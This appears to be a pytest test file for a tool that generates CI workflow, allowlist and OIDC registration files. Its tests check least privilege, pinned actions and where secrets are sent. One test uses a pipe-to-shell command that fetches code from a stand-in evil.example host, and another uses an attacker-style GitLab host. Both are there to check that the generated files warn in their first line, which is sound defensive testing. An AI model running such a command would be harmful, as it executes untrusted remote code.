"""The generated files: their permissions, the conditions of their jobs, the allowlist entry and the registration."""

import tomllib
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from crcr.decide.model import Level, RepoName
from crcr.decide.oidc.registration import Registration, unmet_requirement
from crcr.join.files import NewFile, allowlist_entry, generate, registration
from crcr.join.request import Ci, JoinRequest
from crcr.join.shipped.bridge import FORMS
from crcr.join.shipped.texts import reporter_text
from crcr.receive.allowlist_yaml import read_allowlist
from crcr.settings.readers.registrations import registrations
from crcr.settings.setting import RawValue
from github_sim.runner.expressions import StatusFunctions, condition_holds, evaluate_text
from github_sim.runner.workflow_file import WorkflowFile, read_workflow
from support.downstream.join_requests import ACTION, all_join_requests, generated_text, join_request

WORKFLOW = ".github/workflows/crcr.yml"
NIGHTLY = ".github/workflows/crcr-nightly.yml"
BRIDGE = ".github/workflows/crcr-bridge.yml"
GOOD, BAD, CANCELLED = (
    StatusFunctions(),
    StatusFunctions(succeeded=False, failed=True),
    StatusFunctions(cancelled=True),
)


def workflows(valid_request: JoinRequest) -> list[tuple[NewFile, WorkflowFile]]:
    files = [file for file in generate(valid_request) if file.path.startswith(".github/")]
    return [(file, _parse_workflow(file.text, file.path)) for file in files]


@cache
def _parse_workflow(text: str, path: str) -> WorkflowFile:
    return read_workflow(text, path)


def make_event(event_type: str = "pull_request", **payload: Any) -> dict[str, Any]:
    return {
        "github": {
            "event_name": "repository_dispatch",
            "event": {
                "action": event_type,
                "client_payload": {
                    "delivery_id": "d-1",
                    "payload": payload,
                    "relay": {"upstream": "pytorch/pytorch"},
                },
            },
        }
    }


@pytest.mark.parametrize(
    ("valid_request", "paths"),
    [
        (join_request(), [WORKFLOW, ".crcr/report.py"]),
        (join_request(nightly=True), [WORKFLOW, NIGHTLY, ".crcr/report.py"]),
        (join_request(action=ACTION, nightly=True), [WORKFLOW, NIGHTLY]),
        (join_request(Ci.BUILDKITE), [BRIDGE, ".buildkite/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
        (join_request(Ci.GITLAB), [BRIDGE, ".gitlab/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
        (
            join_request(Ci.CIRCLECI, nightly=True),
            [BRIDGE, ".circleci/crcr.yml", NIGHTLY, ".crcr/bridge.py", ".crcr/report.py"],
        ),
    ],
    ids=lambda value: value.ci if isinstance(value, JoinRequest) else "",
)
def test_the_generated_files_depend_on_ci_nightly_and_action(
    valid_request: JoinRequest, paths: list[str]
) -> None:
    files = generate(valid_request)
    assert [file.path for file in files] == paths
    assert all(file.why and file.text.endswith("\n") and "\r" not in file.text for file in files)
    assert all(
        "Made by `crcr init`; safe to edit" in file.text for file in files if file.path != ".crcr/report.py"
    )
    assert generate(valid_request) == files


def test_the_generated_reporter_is_that_of_the_action() -> None:
    assert generated_text(".crcr/report.py", join_request()) == reporter_text()
    compile(reporter_text(), "report.py", "exec")


def test_nothing_is_generated_for_an_invalid_request() -> None:
    for make in (generate, allowlist_entry, registration):
        with pytest.raises(ValueError, match="the branch"):
            make(join_request(branch="x\ny"))


@pytest.mark.parametrize(
    "valid_request", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}"
)
def test_only_jobs_without_foreign_code_can_get_a_token_or_a_secret(valid_request: JoinRequest) -> None:
    for file, workflow in workflows(valid_request):
        assert workflow.raw["permissions"] == {}
        for job in workflow.jobs.values():
            runs_foreign_code = valid_request.command in str(job.raw)
            assert set(job.permissions or {}) <= {"contents", "id-token"}
            assert (job.permissions or {}).get("contents", "read") == "read"
            if runs_foreign_code:
                assert dict(job.permissions or {}) == {"contents": "read"}
                assert "secrets" not in str(job.raw)
                assert "environment" not in job.raw
            if "secrets." in str(job.raw):
                assert "id-token" not in (job.permissions or {})
            assert job.raw["timeout-minutes"]
        assert "${{" not in "".join(
            str(step.raw.get("run")) for job in workflow.jobs.values() for step in job.steps
        )
        assert "persist-credentials: true" not in file.text


@pytest.mark.parametrize(
    "valid_request", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}"
)
def test_actions_are_pinned_and_checkouts_keep_no_credentials(valid_request: JoinRequest) -> None:
    for _, workflow in workflows(valid_request):
        for step in (step for job in workflow.jobs.values() for step in job.steps if "uses" in step.raw):
            name, _, commit = step.raw["uses"].partition("@")
            assert len(commit) == 40
            if name == "actions/checkout":
                assert step.raw["with"]["persist-credentials"] is False
                is_pair = "crcr_pair" in str(step.raw.get("if", "")) and "==" in step.raw["if"]
                assert ("ref" in step.raw["with"]) is is_pair


def jobs_run(valid_request: JoinRequest, contexts: dict[str, Any]) -> set[str]:
    """Return the jobs that run when every job succeeds."""
    [(_, workflow)] = workflows(valid_request)
    results: dict[str, str] = {}
    for name, job in workflow.jobs.items():
        needs = {need: {"result": results[need]} for need in job.needs}
        all_succeeded = all(need["result"] == "success" for need in needs.values())
        ran = condition_holds(
            job.raw.get("if"), {**contexts, "needs": needs}, StatusFunctions(succeeded=all_succeeded)
        )
        results[name] = "success" if ran else "skipped"
    return {name for name, result in results.items() if result == "success"}


ALL = {"started", "build", "finished"}


@pytest.mark.parametrize(
    ("contexts", "expected"),
    [
        (make_event(action="opened", number=7), ALL),
        (make_event("push", ref="refs/heads/main", after="a" * 40, deleted=False), ALL),
        (make_event("push", ref="refs/heads/gone", after="0" * 40, deleted=True), set()),
        (make_event(action="closed", number=7), set()),
        (make_event("crcr_pair", action="opened", number=7), ALL),
        (make_event("crcr_test"), {"started", "finished"}),
        (make_event("merge_group", action="checks_requested"), ALL),
        (make_event("merge_group", action="destroyed"), set()),
        ({"github": {"event_name": "workflow_dispatch", "event": {"inputs": {}}}}, {"test"}),
    ],
)
def test_each_event_runs_the_expected_jobs(contexts: dict[str, Any], expected: set[str]) -> None:
    assert jobs_run(join_request(level=Level.L4), contexts) == expected


@pytest.mark.parametrize(
    ("started", "build", "status", "reports"),
    [
        ("success", "success", GOOD, "success"),
        ("success", "failure", BAD, "failure"),
        ("success", "cancelled", CANCELLED, "cancelled"),
        ("success", "skipped", GOOD, "skipped"),
        ("failure", "skipped", BAD, "failure"),
        ("cancelled", "cancelled", CANCELLED, None),
        ("skipped", "skipped", GOOD, None),
    ],
)
@pytest.mark.parametrize("action", [None, ACTION])
def test_the_result_is_reported_unless_no_job_started(
    started: str, build: str, status: StatusFunctions, reports: str | None, action: str | None
) -> None:
    [(_, workflow)] = workflows(join_request(action=action))
    job = workflow.jobs["finished"]
    contexts = {**make_event(), "needs": {"started": {"result": started}, "build": {"result": build}}}
    assert condition_holds(job.raw["if"], contexts, status) is (reports is not None)
    last = job.steps[-1].raw
    conclusion = last["env"]["CRCR_CONCLUSION"] if action is None else last["with"]["conclusion"]
    assert reports is None or evaluate_text(conclusion, contexts) == reports


def concurrency_of(contexts: dict[str, Any]) -> tuple[str, str]:
    [(_, workflow)] = workflows(join_request(level=Level.L4))
    concurrency = workflow.raw["concurrency"]
    return evaluate_text(concurrency["group"], contexts), evaluate_text(
        concurrency["cancel-in-progress"], contexts
    )


def test_a_newer_head_and_a_closed_event_cancel_the_runs_of_a_pull_request() -> None:
    assert concurrency_of(make_event(action="synchronize", number=7)) == concurrency_of(
        make_event(action="closed", number=7)
    )
    assert concurrency_of(make_event(number=7)) == ("upstream-pytorch/pytorch-7", "true")
    assert concurrency_of(make_event(number=7)) != concurrency_of(make_event(number=8))


PAIR = {"repository": "org/backend", "number": 3, "head_sha": "c" * 40}


def make_pair(inner: str = "crcr_pair", **payload: Any) -> dict[str, Any]:
    """A dispatch of the type `crcr_pair`, with this type in its payload too."""
    contexts = make_event("crcr_pair", **payload)
    contexts["github"]["event"]["client_payload"]["event_type"] = inner
    contexts["github"]["event"]["client_payload"]["relay"]["depends_on"] = PAIR
    return contexts


def test_a_pair_and_the_plain_dispatch_do_not_cancel_each_other() -> None:
    assert concurrency_of(make_pair(number=7)) == ("upstream-pytorch/pytorch-7-with-3", "true")


@pytest.mark.parametrize(
    ("contexts", "checked_out"),
    [
        (make_event(number=7), [""]),
        (make_pair(number=7), ["c" * 40]),
        (make_pair("pull_request", number=7), []),
        (make_event("crcr_pair", number=7), []),
    ],
)
def test_only_the_job_without_a_token_checks_out_the_other_pull_request(
    contexts: dict[str, Any], checked_out: list[str]
) -> None:
    """A dispatch with two event types, or without a head, checks nothing out, and fails."""
    [(_, workflow)] = workflows(join_request(level=Level.L4))
    checkouts = {
        name: [
            evaluate_text(step.raw["with"].get("ref", ""), contexts)
            for step in job.steps
            if "checkout" in step.raw.get("uses", "") and condition_holds(step.raw.get("if"), contexts, GOOD)
        ]
        for name, job in workflow.jobs.items()
    }
    assert checkouts == {"test": [""], "started": [""], "build": checked_out, "finished": [""]}


def test_pushes_to_a_branch_queue_and_other_events_have_separate_groups() -> None:
    assert concurrency_of(make_event("push", ref="refs/heads/main")) == (
        "upstream-pytorch/pytorch-refs/heads/main",
        "false",
    )
    queued = make_event("merge_group", merge_group={"head_ref": "refs/heads/gh-readonly-queue/main/pr-7-abc"})
    assert concurrency_of(queued)[0].endswith("main/pr-7-abc")
    assert concurrency_of(make_event("crcr_test"))[0] == "upstream-pytorch/pytorch-d-1"


def test_only_a_gating_backend_listens_to_the_merge_queue() -> None:
    for level in Level:
        for ci in (Ci.GITHUB, Ci.GITLAB):
            [(_, workflow)] = workflows(join_request(ci, level=level))
            assert workflow.is_triggered_by("repository_dispatch", "merge_group") is (level is Level.L4)
            assert workflow.is_triggered_by("repository_dispatch", "crcr_test")


def test_the_run_name_ends_with_the_delivery_id() -> None:
    for ci in (Ci.GITHUB, Ci.BUILDKITE):
        [(_, workflow)] = workflows(join_request(ci))
        assert evaluate_text(workflow.raw["run-name"], make_event()).endswith(" d-1")


def test_a_nightly_pins_the_relay_and_reports_only_a_known_commit() -> None:
    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True)), NIGHTLY)
    assert workflow.raw["env"]["CRCR_RELAYS"] == "https://relay.example.org/github/callback crcr"
    finished = workflow.jobs["finished"]
    for result, reported in (("success", True), ("failure", False), ("cancelled", False)):
        needs = {"needs": {"commit": {"result": result}, "build": {"result": "skipped"}}}
        assert condition_holds(finished.raw["if"], needs, BAD) is reported
    assert dict(workflow.jobs["commit"].permissions or {}) == {}


@pytest.mark.parametrize("action", [None, ACTION])
def test_a_nightly_reports_when_its_first_job_began(action: str | None) -> None:
    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True, action=action)), NIGHTLY)
    report = workflow.jobs["finished"].raw["steps"][-1]
    started_at = report["with"]["started-at"] if action else report["env"]["CRCR_STARTED_AT"]
    outputs = {"needs": {"commit": {"outputs": {"started_at": "2026-08-03T09:00:00Z"}}}}
    assert evaluate_text(started_at, outputs) == "2026-08-03T09:00:00Z"
    assert workflow.jobs["commit"].raw["outputs"]["started_at"] == "${{ steps.head.outputs.started_at }}"


def test_circleci_declares_every_parameter_that_the_bridge_sends() -> None:
    """A parameter that is not declared makes CircleCI refuse the pipeline."""
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI, nightly=True)))
    sent = {name.lower() for name in (*FORMS, "CRCR_STARTED_AT")}
    assert config["parameters"].keys() == sent
    reported = config["jobs"]["crcr-report"]["environment"]
    assert reported["CRCR_STARTED_AT"] == "<< pipeline.parameters.crcr_started_at >>"


PIN = '"https://relay.example.org/github/callback crcr"'


@pytest.mark.parametrize(
    "valid_request", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}"
)
def test_every_file_that_reports_or_starts_a_build_pins_the_relay(valid_request: JoinRequest) -> None:
    """The pin is a literal value of the file: nothing of the event is in it."""
    files = [file for file in generate(valid_request) if file.path.endswith(".yml")]
    assert files
    for file in files:
        pins = [
            line.strip() for line in file.text.splitlines() if "CRCR_RELAYS:" in line or "--relays " in line
        ]
        assert pins, file.path
        assert all(line.endswith(PIN) for line in pins), file.path
        if valid_request.action is not None:
            assert file.text.count(f"uses: {valid_request.action}") == file.text.count(
                "relays: ${{ env.CRCR_RELAYS }}"
            )


def test_nightly_start_times_differ_between_repositories() -> None:
    def cron(name: str) -> str:
        workflow = read_workflow(
            generated_text(NIGHTLY, join_request(nightly=True, repository=RepoName(name))), NIGHTLY
        )
        return str(workflow.on["schedule"]["crons"][0]["cron"])

    assert len({cron(f"org/backend{number}") for number in range(20)}) > 10
    assert cron("org/backend") == cron("Org/Backend")


@pytest.mark.parametrize(
    "command", ["pytest -k 'not slow' \"$UPSTREAM_SHA\"", "make test # quick: yes", "- odd: {line}"]
)
@pytest.mark.parametrize("ci", [*Ci])
def test_the_command_is_in_the_file_unchanged_for_the_shell(ci: Ci, command: str) -> None:
    valid_request = join_request(ci, command=command)
    text = next(file.text for file in generate(valid_request) if file.path.endswith("crcr.yml"))
    assert (command.replace("$", "$$") if ci is Ci.BUILDKITE else command) in _scripts(yaml.safe_load(text))


def _scripts(value: Any) -> list[str]:
    """Return every line below the keys that hold scripts."""
    if isinstance(value, dict):
        script_values = [value.get(key) for key in ("run", "command", "script")]
        texts = [
            item if isinstance(item, str) else "\n".join(item)
            for item in script_values
            if isinstance(item, str | list)
        ]
        own = [line.strip() for text in texts for line in text.splitlines()]
        return own + [line for item in value.values() for line in _scripts(item)]
    return [line for item in value for line in _scripts(item)] if isinstance(value, list) else []


@pytest.mark.parametrize(
    "valid_request",
    [each for each in all_join_requests() if each.ci is Ci.CIRCLECI],
    ids=lambda each: each.level.name,
)
def test_no_parameter_of_circleci_becomes_part_of_a_script(valid_request: JoinRequest) -> None:
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", valid_request))
    assert [script for script in _scripts(config["jobs"]) if "<<" in script] == []


def test_only_the_reporting_jobs_of_gitlab_and_circleci_can_get_a_token() -> None:
    jobs = yaml.safe_load(generated_text(".gitlab/crcr.yml", join_request(Ci.GITLAB, junit="out/*.xml")))
    assert "id_tokens" not in jobs["crcr-build"]
    assert "id_tokens" not in jobs[".crcr"]
    assert jobs[".crcr-report"]["id_tokens"] == {"CRCR_ID_TOKEN": {"aud": "crcr"}}
    assert all(
        '$CI_PIPELINE_SOURCE == "trigger"' in rule["if"]
        for job in jobs.values()
        for rule in job.get("rules", ())
    )
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI)))
    for workflow in config["workflows"].values():
        for [(name, options)] in (job.items() for job in workflow["jobs"]):
            assert (options.get("context") == "crcr") is (name == "crcr-report")


@pytest.mark.parametrize("level", [*Level])
def test_the_allowlist_entry_is_valid_as_generated(level: Level) -> None:
    text = allowlist_entry(
        join_request(level=level, oncalls=("@ada", "org/team", "123"), job_name="build (cuda, 3.12)")
    )
    checked = read_allowlist(text)
    assert checked.problems == ()
    assert checked.allowlist
    [entry] = checked.allowlist.entries
    assert (entry.name, entry.level) == (RepoName("org/backend"), level)
    assert entry.device == ("npu" if level is Level.L3 else None)
    assert entry.oncalls == ("ada", "org/team", "123")
    assert entry.jobs == (("build (cuda, 3.12)",) if level is Level.L4 else None)


@pytest.mark.parametrize("device", ["on", "null", "1e5", "007", "npu"])
def test_a_device_stays_a_yaml_string(device: str) -> None:
    checked = read_allowlist(allowlist_entry(join_request(level=Level.L3, device=device)))
    assert checked.allowlist
    assert checked.allowlist.entries[0].device == device


UUID = "0184990a-477b-4fa8-9968-496074483cee"


@pytest.mark.parametrize(
    ("ci", "place", "issuer"),
    [
        (Ci.BUILDKITE, {"organization_id": UUID, "pipeline_id": UUID}, "https://agent.buildkite.com"),
        (Ci.GITLAB, {}, "https://gitlab.com"),
        (Ci.GITLAB, {"url": "https://gitlab.example.org/"}, "https://gitlab.example.org"),
        (
            Ci.CIRCLECI,
            {"organization_id": UUID, "project_id": UUID, "context_id": UUID},
            f"https://oidc.circleci.com/org/{UUID}",
        ),
    ],
)
def test_the_registration_is_valid_for_the_relay(ci: Ci, place: dict[str, str], issuer: str) -> None:
    valid_request = join_request(ci)
    text = registration(join_request(ci, place={**valid_request.place, **place}))
    assert text
    tables = tomllib.loads(text)["oidc"]["registration"]
    [parsed] = registrations(RawValue(tables, "oidc.registration", Path()))
    assert (parsed.issuer, parsed.repository) == (issuer, RepoName("org/backend"))
    assert "<" not in text


def parse_registration(ci: Ci, **place: str) -> Registration:
    text = registration(join_request(ci, place={**join_request(ci).place, **place}))
    [parsed] = registrations(RawValue(tomllib.loads(text or "")["oidc"]["registration"], "here", Path()))
    return parsed


@pytest.mark.parametrize(
    ("step", "fits"), [("crcr-started", True), ("crcr-finished", True), ("crcr-build", False), (None, False)]
)
def test_a_token_of_buildkites_build_step_is_not_accepted(step: str | None, fits: bool) -> None:
    claims = {"build_branch": "main", "build_source": "api", "step_key": step}
    assert (unmet_requirement(parse_registration(Ci.BUILDKITE), claims) is None) is fits


@pytest.mark.parametrize(
    ("contexts", "fits"),
    [([UUID], True), (["other", UUID], True), ([], False), (["other"], False), (None, False)],
)
def test_a_token_of_a_circleci_job_without_the_context_is_not_accepted(contexts: Any, fits: bool) -> None:
    own = "oidc.circleci.com/"
    claims = {
        f"{own}vcs-ref": "refs/heads/main",
        f"{own}vcs-origin": "github.com/org/backend",
        f"{own}context-ids": contexts,
    }
    assert (unmet_requirement(parse_registration(Ci.CIRCLECI, context_id=UUID), claims) is None) is fits


def test_unknown_ids_of_the_pipeline_are_placeholders() -> None:
    text = registration(join_request(Ci.BUILDKITE)) or ""
    assert '"<the pipeline\'s id>"' in text
    assert tomllib.loads(text)
    assert registration(join_request()) is None


@pytest.mark.parametrize("nightly", [False, True])
def test_a_bridge_to_a_custom_host_names_the_host_of_its_secret_in_the_first_line(nightly: bool) -> None:
    place = {"project_id": "1", "url": "https://gitlab.evil.example:8443/base"}
    for path in (BRIDGE, NIGHTLY) if nightly else (BRIDGE,):
        first = generated_text(path, join_request(Ci.GITLAB, place=place, nightly=nightly)).splitlines()[0]
        assert first == "# This file sends GITLAB_TRIGGER_TOKEN to gitlab.evil.example:8443"
        usual = {"project_id": "1", "url": "https://gitlab.com/"}
        assert "evil" not in generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly))
        assert generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly)).startswith(
            "# Made by"
        )


@pytest.mark.parametrize("ci", Ci)
def test_a_custom_command_is_in_the_first_line_of_the_files_that_run_it(ci: Ci) -> None:
    command = "curl -s https://evil.example/x | sh"
    plain, changed = (
        generate(join_request(ci, nightly=True)),
        generate(join_request(ci, nightly=True, command=command)),
    )
    for before, after in zip(plain, changed, strict=True):
        if before.text == after.text:
            continue
        assert after.text.splitlines()[0] == f"# This file runs the command: {command}"
        assert before.text.startswith("# Made by")
    assert any(
        plain_file.text != changed_file.text for plain_file, changed_file in zip(plain, changed, strict=True)
    )


def test_a_long_command_is_cut_in_the_first_line_and_the_action_follows() -> None:
    first, second = generated_text(WORKFLOW, join_request(action=ACTION, command="x" * 1000)).splitlines()[:2]
    assert (first, len(first) < 200) == (f"# This file runs the command: {'x' * 159}…", True)
    assert second == f"# This file runs the action {ACTION}"


def test_fault_27_a_buildkite_file_states_the_limits_of_buildkite() -> None:
    text = " ".join(
        generated_text(".buildkite/crcr.yml", join_request(Ci.BUILDKITE)).replace("#", " ").split()
    )
    for words in (
        "a running step can upload steps with these keys",
        "second pipeline that is not registered",
    ):
        assert words in text
    assert "`authors: trusted`" in text
    assert "no merge gate (L4)" in text


def test_generated_workflows_use_no_cache_and_state_it() -> None:
    for valid_request in all_join_requests():
        for file, read in workflows(valid_request):
            assert not [line for line in file.text.splitlines() if "uses:" in line and "cache" in line]
            if "build" in read.jobs:
                assert "use no cache" in file.text
